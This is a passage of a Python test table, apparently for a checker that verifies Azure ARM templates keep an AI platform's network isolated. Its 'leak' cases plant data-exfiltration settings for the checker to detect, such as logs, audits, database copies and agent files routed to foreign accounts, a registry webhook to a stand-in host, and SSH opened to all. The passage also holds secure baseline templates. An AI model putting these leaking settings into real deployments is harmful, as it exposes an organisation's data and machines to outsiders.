        "Grafana that publishes snapshots",
        alone,
        "5",
        closed_service(
            "Microsoft.Dashboard/grafana", "g", {"grafanaConfigurations": {"snapshots": {"externalEnabled": True}}}, "2024-10-01"
        ),
    ),
    leak(
        "Grafana that sends mail",
        alone,
        "5",
        closed_service("Microsoft.Dashboard/grafana", "g", {"grafanaConfigurations": {"smtp": {"enabled": True}}}, "2024-10-01"),
    ),
    leak(
        "Purview whose ingestion storage is open",
        alone,
        "1 2",
        extra(
            res(
                "Microsoft.Purview/accounts",
                "pv",
                {"publicNetworkAccess": "Disabled", "ingestionStorage": {"publicNetworkAccess": "Enabled"}},
                "2024-04-01-preview",
            ),
            "account",
            "privatelink.purview.azure.com",
        ),
    ),
    leak("an IoT hub's built-in endpoint for events", alone, "1 2", closed_service(IOT, "hub", {"disableLocalAuth": True}, "2023-06-30")),
    leak(
        "an IoT hub whose rules let half the internet in to its events",
        alone,
        "1 2",
        closed_service(IOT, "hub", {"disableLocalAuth": True, "networkRuleSets": RULED}, "2023-06-30"),
    ),
    leak(
        "an IoT hub that routes to the built-in endpoint",
        alone,
        "1 2",
        closed_service(
            IOT,
            "hub",
            {
                "disableLocalAuth": True,
                "routing": {
                    **NO_FALLBACK,
                    "routes": [{"name": "r", "source": "DeviceMessages", "endpointNames": ["events"], "isEnabled": True}],
                },
            },
            "2023-06-30",
        ),
    ),
    leak(
        "an IoT hub that sends to somebody's storage",
        alone,
        "5",
        closed_service(
            IOT,
            "hub",
            {
                "disableLocalAuth": True,
                "routing": {
                    **NO_FALLBACK,
                    "endpoints": {
                        "storageContainers": [{"name": "x", "endpointUri": "https://x.blob.core.windows.net", "containerName": "c"}]
                    },
                },
            },
            "2023-06-30",
        ),
    ),
    leak(
        "prompts are kept in a foreign account for monitoring",
        alone,
        "5",
        put(ACCOUNT, "raiMonitorConfig", {"adxStorageResourceId": f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/x"}),
    ),
    leak(
        "a workspace of logs keeps queries in a foreign account",
        alone,
        "5",
        workspace(
            res(
                "Microsoft.OperationalInsights/workspaces/linkedStorageAccounts",
                "law/Query",
                {"storageAccountIds": [f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/x"]},
            )
        ),
    ),
    leak(
        "a workspace of logs in a foreign cluster",
        alone,
        "5",
        workspace(
            res(
                "Microsoft.OperationalInsights/workspaces/linkedServices",
                "law/Cluster",
                {"writeAccessResourceId": f"{ELSEWHERE}/Microsoft.OperationalInsights/clusters/x"},
            )
        ),
    ),
    *(
        leak(
            f"not all traffic of a site takes its subnet: {name}",
            alone,
            "5",
            extra(site(**more)),
            add(*(res("Microsoft.Web/sites/config", "func/web", part, "2023-12-01") for part in parts)),
        )
        for name, more, parts in (
            ("a switch of old", {"siteConfig": {"vnetRouteAllEnabled": False}}, ()),
            ("a newer switch", {"outboundVnetRouting": {"allTraffic": False}}, ()),
            ("a part", {}, ({"vnetRouteAllEnabled": False},)),
            ("a setting", {"siteConfig": {"appSettings": [{"name": "WEBSITE_VNET_ROUTE_ALL", "value": "0"}]}}, ()),
        )
    ),
    leak(
        "audits of SQL go to somebody's storage",
        alone,
        "5",
        extra(SQL),
        add(
            res(
                "Microsoft.Sql/servers/auditingSettings",
                "sql/default",
                {"state": "Enabled", "storageEndpoint": "https://x.blob.core.windows.net", "storageAccountAccessKey": "x"},
                "2021-11-01",
            )
        ),
    ),
    leak(
        "a machine's screen goes to somebody's storage",
        alone,
        "5",
        put(
            "virtualMachines", "diagnosticsProfile", {"bootDiagnostics": {"enabled": True, "storageUri": "https://x.blob.core.windows.net"}}
        ),
    ),
    leak(
        "a registry tells somebody of its images",
        alone,
        "5",
        extra(ACR),
        add(res("Microsoft.ContainerRegistry/registries/webhooks", "acr/w", {"serviceUri": "https://x.example", "actions": ["push"]})),
    ),
    leak(
        "a job copies a database to somebody's storage",
        alone,
        "5",
        extra(COSMOS),
        add(
            res(
                "Microsoft.DocumentDB/databaseAccounts/dataTransferJobs",
                "cosmos/j",
                {"destination": {"component": "AzureBlobStorage", "endpointUrl": "https://x.blob.core.windows.net", "containerName": "c"}},
            )
        ),
    ),
    leak(
        "agents keep files in a foreign account",
        alone,
        "5",
        extra(foundry()),
        add(
            res(
                "Microsoft.CognitiveServices/accounts/projects/connections",
                "fdry/p/c",
                {"category": "AzureStorageAccount", "metadata": {"ResourceId": f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/x"}},
                "2025-06-01",
            )
        ),
    ),
    leak(
        "a workspace of machine learning with a foreign account",
        alone,
        "5",
        extra(hub(storageAccount=f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/x")),
    ),
    *(
        leak(
            f"a just-in-time policy opens a port of management: {name}",
            alone,
            "7",
            add(
                res(
                    "Microsoft.Security/locations/jitNetworkAccessPolicies",
                    "westeurope/jit",
                    {"virtualMachines": [{"id": rid("Microsoft.Compute/virtualMachines", vm), "ports": [{"number": port, **sources}]}]},
                    "2020-01-01",
                )
            ),
        )
        for name, vm, port, sources in (
            ("to all", "vm", 22, {"allowedSourceAddressPrefix": "*"}),
            ("to an office", "vm", 3389, {"allowedSourceAddressPrefixes": ["203.0.113.0/24"]}),
            ("of a machine elsewhere", "gone", 5986, {"allowedSourceAddressPrefix": "Internet"}),
        )
    ),
    leak("an API version that nobody gives", alone, "1 2", by_version("[parameters('version')]")),
    leak("an API version that is no date", alone, "1 2", by_version("latest")),
    leak("an API version by the profile of the template", alone, "1 2", by_version(None, "2018-03-01-hybrid")),
    leak(
        "public access by the subscription",
        alone,
        "1 2",
        *by_switch("not(equals(subscription().subscriptionId, '11111111-2222-3333-4444-555555555555'))"),
    ),
    leak(
        "public access by a list of subscriptions",
        alone,
        "1 2",
        *by_switch("not(contains(createArray('11111111-2222-3333-4444-555555555555'), subscription().subscriptionId))"),
    ),
    leak("public access by the name of the deployment", alone, "1 2", *by_switch("not(equals(deployment().name, 'test'))")),
    leak("public access by the order of subscriptions", alone, "1 2", *by_switch("less(subscription().subscriptionId, '8')")),
)
def managed(**more: Any) -> Body:
    """A service of API Management inside the network."""
    there = {"subnetResourceId": rid(f"{VNET}/subnets", "vnet", "snet-app")}
    inside = {"virtualNetworkType": "Internal", "virtualNetworkConfiguration": there}
    return res("Microsoft.ApiManagement/service", "apim", {**inside, **more}, "2023-09-01-preview", sku={"name": "Premium", "capacity": 1})


def connection(category: str, target: str, **metadata: str) -> Change:
    """A connection of a project of a Foundry account."""
    written = {"category": category, "target": target, "authType": "AAD", "metadata": metadata}
    return add(res("Microsoft.CognitiveServices/accounts/projects/connections", "fdry/p/c", written, "2025-06-01"))


def copied(to: Body) -> Change:
    """A job that copies a container of a Cosmos account."""
    return add(res("Microsoft.DocumentDB/databaseAccounts/dataTransferJobs", "cosmos/j", {"destination": to}))


FIFTH: tuple[Attack, ...] = (
    leak(
        "a registry tells a host that begins as the name of an account",
        alone,
        "5",
        extra(ACR),
        add(res("Microsoft.ContainerRegistry/registries/webhooks", "acr/w", {"serviceUri": "https://oai.x.example", "actions": ["push"]})),
    ),
    leak(
        "audits of SQL go to a storage account of the name of an account for models",
        alone,
        "5",
        extra(SQL),
        add(
            res(
                "Microsoft.Sql/servers/auditingSettings",
                "sql/default",
                {"state": "Enabled", "storageEndpoint": "https://oai.blob.core.windows.net"},
                "2021-11-01",
            )
        ),
    ),
    leak(
        "a machine's screen goes to a storage account of the name of a security group",
        alone,
        "5",
        put(
            "virtualMachines", "diagnosticsProfile", {"bootDiagnostics": {"enabled": True, "storageUri": "https://nsg.blob.core.windows.net"}}
        ),
    ),
    leak(
        "a job copies a database to somebody's account",
        alone,
        "5",
        extra(COSMOS),
        copied({"component": "CosmosDBSql", "databaseName": "d", "containerName": "c", "remoteAccountName": "theirs"}),
    ),
    leak(
        "a newer job copies a database to somebody's account",
        alone,
        "5",
        extra(COSMOS),
        add(res("Microsoft.DocumentDB/databaseAccounts/copyJobs", "cosmos/j", {"jobProperties": {}}, "2025-11-01-preview")),
    ),
    leak("agents keep files at a foreign address", alone, "5", extra(foundry()), connection("AzureBlob", "https://theirs.blob.core.windows.net")),
    leak(
        "agents keep files at a foreign address, by the id of one's own account",
        alone,
        "5",
        extra(foundry()),
        connection("AzureBlob", "https://theirs.blob.core.windows.net", ResourceId=rid("Microsoft.Storage/storageAccounts", "stdata")),
    ),
    leak("agents ask a foreign account", alone, "5", extra(foundry()), connection("AzureOpenAI", "https://theirs.openai.azure.com/")),
    leak("agents call a tool of somebody's", alone, "5", extra(foundry()), connection("RemoteTool", "https://tools.x.example/mcp")),
    leak(
        "a site writes its logs to somebody's storage",
        alone,
        "5",
        extra(site()),
        add(
            res(
                "Microsoft.Web/sites/config",
                "func/logs",
                {"applicationLogs": {"azureBlobStorage": {"level": "Verbose", "sasUrl": "https://theirs.blob.core.windows.net/c?sv=x"}}},
                "2023-12-01",
            )
        ),
    ),
    leak(
        "a site mounts somebody's share",
        alone,
        "5",
        extra(site(siteConfig={"azureStorageAccounts": {"m": {"type": "AzureFiles", "accountName": "theirs", "shareName": "s"}}})),
    ),
    leak(
        "a share that asks nobody who he is",
        alone,
        "2",
        add(res("Microsoft.Storage/storageAccounts/fileServices/shares", "stdata/default/s", {"enabledProtocols": "NFS"}, "2023-05-01")),
    ),
    leak("blobs by NFS, which asks nobody who he is", alone, "2", put("storageAccounts", "isNfsV3Enabled", True)),
    leak(
        "API Management in a network, but for its second region",
        alone,
        "1 5",
        extra(managed(additionalLocations=[{"location": "northeurope", "sku": {"name": "Premium", "capacity": 1}}])),
    ),
    leak(
        "API Management with a gateway that anybody hosts",
        alone,
        "5",
        extra(managed()),
        add(res("Microsoft.ApiManagement/service/gateways", "apim/elsewhere", {"locationData": {"name": "there"}})),
    ),
    leak(
        "a workspace of machine learning computes on a foreign cluster",
        alone,
        "5",
        extra(hub()),
        add(
            res(
                "Microsoft.MachineLearningServices/workspaces/computes",
                "mlw/k",
                {
                    "computeType": "Kubernetes",
                    "resourceId": f"{ELSEWHERE}/Microsoft.ContainerService/managedClusters/k",
                    "disableLocalAuth": True,
                },
                "2024-10-01",
            )
        ),
    ),
)
WORKSPACE = res(
    "Microsoft.OperationalInsights/workspaces",
    "log",
    {"publicNetworkAccessForIngestion": "Disabled", "publicNetworkAccessForQuery": "Disabled", "features": {"disableLocalAuth": True}},
    "2023-09-01",
)
THEIR_WORKSPACE = f"{ELSEWHERE}/Microsoft.OperationalInsights/workspaces/theirs"
THEIR_STORAGE = f"{ELSEWHERE}/Microsoft.Storage/storageAccounts/theirs"


def recorded(name: str, **sinks: str) -> Body:
    """A diagnostic setting of the key vault."""
    logs = {"logs": [{"categoryGroup": "allLogs", "enabled": True}]}
    return res("Microsoft.Insights/diagnosticSettings", name, {**sinks, **logs}, scope=rid("Microsoft.KeyVault/vaults", "kv"))


def also_recorded(sink: str, target: str) -> tuple[Change, ...]:
    """A vault whose logs go to one's own workspace, and besides to somebody's."""
    own = recorded("own", workspaceId=rid("Microsoft.OperationalInsights/workspaces", "log"))
    return extra(WORKSPACE), add(own, recorded("theirs", **{sink: f"{ELSEWHERE}/{target}"}))


def tapped(tap: str) -> Change:
    """A machine of whose packets a tap gets a copy."""

    def change(template: Body) -> None:
        find(template, "networkInterfaces")["properties"]["ipConfigurations"][0]["properties"]["virtualNetworkTaps"] = [{"id": tap}]

    return change


def flow_records(**more: Any) -> Change:
    """A record of the flows of the network."""
    own = {"targetResourceId": rid(VNET, "vnet"), "storageId": rid("Microsoft.Storage/storageAccounts", "stdata"), "enabled": True}
    return add(res(f"{NET}/networkWatchers/flowLogs", "nw/flows", {**own, **more}))


def with_pods(**more: Any) -> Body:
    """A cluster whose nodes stand in the network."""
    made = aks()
    made["properties"]["agentPoolProfiles"][0].update(more)
    return made


ANALYSED = {"enabled": True, "workspaceResourceId": THEIR_WORKSPACE}
SIXTH: tuple[Attack, ...] = (
    leak(
        "logs go to one's own workspace and besides to somebody's",
        alone,
        "5",
        *also_recorded("workspaceId", "Microsoft.OperationalInsights/workspaces/theirs"),
    ),
    leak(
        "logs go to one's own workspace and besides to somebody's storage",
        alone,
        "5",
        *also_recorded("storageAccountId", "Microsoft.Storage/storageAccounts/theirs"),
    ),
    leak(
        "logs go to one's own workspace and besides to somebody's event hubs",
        alone,
        "5",
        *also_recorded("eventHubAuthorizationRuleId", "Microsoft.EventHub/namespaces/theirs/authorizationRules/send"),
    ),
    leak(
        "one setting with two places for logs, one of them somebody's",
        alone,
        "5",
        extra(WORKSPACE),
        add(recorded("both", workspaceId=rid("Microsoft.OperationalInsights/workspaces", "log"), storageAccountId=THEIR_STORAGE)),
    ),
    leak(
        "machines are watched by a rule of somebody's workspace",
        alone,
        "5",
        add(
            res(
                "Microsoft.Insights/dataCollectionRules",
                "rule",
                {"destinations": {"logAnalytics": [{"name": "theirs", "workspaceResourceId": THEIR_WORKSPACE}]}},
                "2023-03-11",
            )
        ),
    ),
    leak("a tap of somebody's copies the packets of a machine", alone, "5", tapped(f"{ELSEWHERE}/{NET}/virtualNetworkTaps/theirs")),
    leak("flows are recorded in somebody's storage", alone, "5", flow_records(storageId=THEIR_STORAGE)),
    leak(
        "flows are analysed in somebody's workspace",
        alone,
        "5",
        flow_records(flowAnalyticsConfiguration={"networkWatcherFlowAnalyticsConfiguration": ANALYSED}),
    ),
    leak(
        "a firewall's insights are in somebody's workspace",
        spoked,
        "5",
        put("firewallPolicies", "insights", {"isEnabled": True, "logAnalyticsResources": {"defaultWorkspaceId": {"id": THEIR_WORKSPACE}}}),
    ),
    leak(
        "what applications tell of themselves is in somebody's workspace",
        alone,
        "5",
        extra(
            res(
                "Microsoft.Insights/components",
                "ai",
                {
                    "WorkspaceResourceId": THEIR_WORKSPACE,
                    "publicNetworkAccessForIngestion": "Disabled",
                    "publicNetworkAccessForQuery": "Disabled",
                    "DisableLocalAuth": True,
                },
                "2020-02-02",
            )
        ),
    ),
    leak(
        "what containers print is in somebody's workspace",
        alone,
        "5",
        extra(
            environment(
                appLogsConfiguration={
                    "destination": "log-analytics",
                    "logAnalyticsConfiguration": {"customerId": "99999999-9999-9999-9999-999999999999"},
                }
            )
        ),
    ),
    leak(
        "what a cluster's containers print is in somebody's workspace",
        alone,
        "5",
        extra(
            aks(addonProfiles={"omsagent": {"enabled": True, "config": {"logAnalyticsWorkspaceResourceID": THEIR_WORKSPACE}}}),
        ),
    ),
    leak(
        "a cluster's defender tells somebody's workspace",
        alone,
        "5",
        extra(aks(securityProfile={"defender": {"logAnalyticsWorkspaceResourceId": THEIR_WORKSPACE}})),
    ),
    leak(
        "a cluster's pods stand in somebody's network",
        alone,
        "5",
        extra(with_pods(podSubnetID=f"{ELSEWHERE}/{VNET}/theirs/subnets/pods")),
    ),
    leak(
        "a workspace of machine learning makes its own way to somebody's storage",
        alone,
        "5",
        extra(
            hub(sharedPrivateLinkResources=[{"name": "out", "properties": {"privateLinkResourceId": THEIR_STORAGE, "groupId": "blob"}}])
        ),
    ),
    leak(
        "a workspace of machine learning keeps what it encrypts at somebody's",
        alone,
        "5",
        extra(hub(encryption={"status": "Enabled", "storageAccountResourceId": THEIR_STORAGE})),
    ),
    leak(
        "a hub of machine learning has one account more, somebody's",
        alone,
        "5",
        extra(hub(workspaceHubConfig={"additionalWorkspaceStorageAccounts": [THEIR_STORAGE]})),
    ),
    leak(
        "a web site of a storage account, which asks nobody who he is",
        alone,
        "2",
        add(res("Microsoft.Storage/storageAccounts/blobServices", "stdata/default", {"staticWebsite": {"enabled": True}}, "2025-06-01")),
    ),
    leak(
        "keys of storage are off, but on for one kind of it",
        alone,
        "2",
        put("storageAccounts", "allowSharedKeyAccessForServices", {"file": {"enabled": True}}),
    ),
    leak(
        "a function app in an environment of somebody's",
        alone,
        "1 5",
        extra(site(managedEnvironmentId=f"{ELSEWHERE}/Microsoft.App/managedEnvironments/theirs")),
    ),
    leak(
        "a site sends everything through its subnet, but what its code sends",
        alone,
        "5",
        extra(site(outboundVnetRouting={"applicationTraffic": False})),
    ),
)
TABLE = (*WAYS_IN, *DOORS, *NAMES, *WAYS_OUT, *SEGMENTS, *SECOND, *THIRD, *FOURTH, *FIFTH, *SIXTH)


def private(body: Body, group: str, *zones: str) -> list[Body]:
    """A service with an endpoint, and every zone that it has names in."""
    parts = [body, *endpoint(f"pe-{body['name']}", "vnet", "snet-pe", body["type"], body["name"], group, zones[0])]
    ids = [rid(f"{NET}/privateDnsZones", name) for name in zones]
    parts[-1]["properties"]["privateDnsZoneConfigs"] = [
        {"name": f"config-{number}", "properties": {"privateDnsZoneId": each}} for number, each in enumerate(ids)
    ]
    return parts


def platform() -> list[Body]:
    """One network with everything that an AI platform is made of, each closed and with its endpoint."""
    foundry_zones = ("privatelink.cognitiveservices.azure.com", "privatelink.services.ai.azure.com", ZONES["account"])
    more = (
        "privatelink.cognitiveservices.azure.com",
        "privatelink.services.ai.azure.com",
        "privatelink.documents.azure.com",
        "privatelink.database.windows.net",
        "privatelink.postgres.database.azure.com",
        "privatelink.azurecr.io",
        "privatelink.azurewebsites.net",
        "privatelink.api.azureml.ms",
        "privatelink.notebooks.azure.net",
        "privatelink.servicebus.windows.net",
    )
    unpublished = [
        res("Microsoft.Web/sites/basicPublishingCredentialsPolicies", f"func/{name}", {"allow": False}) for name in ("scm", "ftp")
    ]
    bastion = {
        "subnet": ref(f"{VNET}/subnets", "vnet", "AzureBastionSubnet"),
        "publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip-bas"),
    }
    built = [
        *alone(),
        *private(foundry(), "account", *foundry_zones),
        *private(COSMOS, "Sql", "privatelink.documents.azure.com"),
        *private(SQL, "sqlServer", "privatelink.database.windows.net"),
        *private(PG, "postgresqlServer", "privatelink.postgres.database.azure.com"),
        *private(ACR, "registry", "privatelink.azurecr.io"),
        *private(site(), "sites", "privatelink.azurewebsites.net"),
        *unpublished,
        *private(hub(), "amlworkspace", "privatelink.api.azureml.ms", "privatelink.notebooks.azure.net"),
        *private(
            res("Microsoft.EventHub/namespaces", "ehn", {"publicNetworkAccess": "Disabled", "disableLocalAuth": True}, "2024-01-01"),
            "namespace",
            "privatelink.servicebus.windows.net",
        ),
        environment(),
        aks(),
        balancer(front={"subnet": ref(f"{VNET}/subnets", "vnet", "snet-app"), "privateIPAddress": "10.0.1.20"}),
        public_ip("pip-bas"),
        res(f"{NET}/bastionHosts", "bas", {"ipConfigurations": [{"name": "ip", "properties": bastion}]}, sku={"name": "Standard"}),
        *(part for name in more for part in zone(name, "vnet")),
    ]
    find({"resources": built}, VNET)["properties"]["subnets"] += [
        {"name": "AzureBastionSubnet", "properties": {"addressPrefix": "10.0.9.0/26"}},
        subnet(
            "snet-apps",
            "10.0.10.0/23",
            networkSecurityGroup=ref(f"{NET}/networkSecurityGroups", "nsg"),
            delegations=[{"name": "d", "properties": {"serviceName": "Microsoft.App/environments"}}],
        ),
    ]
    return built


def resolving() -> list[Body]:
    """The one network, which asks the inbound endpoint of a resolver in a hub that the zones are linked to."""
    zones_moved = [each for each in alone() if not each["type"].endswith("virtualNetworkLinks")]
    built = [
        *zones_moved,
        network("hub", "10.20.0.0/16", subnet("snet-in", "10.20.1.0/28", networkSecurityGroup=ref(f"{NET}/networkSecurityGroups", "nsg"))),
        *peer("vnet", "hub"),
        res(f"{NET}/dnsResolvers", "dnspr", {"virtualNetwork": ref(VNET, "hub")}),
        res(
            f"{NET}/dnsResolvers/inboundEndpoints",
            "dnspr/in",
            {
                "ipConfigurations": [
                    {
                        "privateIpAddress": "10.20.1.4",
                        "privateIpAllocationMethod": "Static",
                        "subnet": ref(f"{VNET}/subnets", "hub", "snet-in"),
                    }
                ]
            },
        ),
        *(each for name in ZONES.values() for each in zone(name, "hub")[1:]),
    ]
    template = {"resources": built}
    for name in ("vnet", "hub"):
        put("virtualNetworks", "dhcpOptions", {"dnsServers": ["10.20.1.4"]}, name)(template)
    allow("90 out allow udp 53 from * to 10.20.1.4")(template)
    put("networkSecurityGroups", "securityRules.0", rule("in", "100 in allow tcp 443 from VirtualNetwork to 10.0.2.0/24"))(template)
    return built


HONEST: dict[str, Callable[[], list[Body]]] = {
    "one network": alone,
    "a hub and spokes": spoked,
    "a platform": platform,
    "a resolver in a hub": resolving,
}
"""Templates of which everything about the network is proved."""
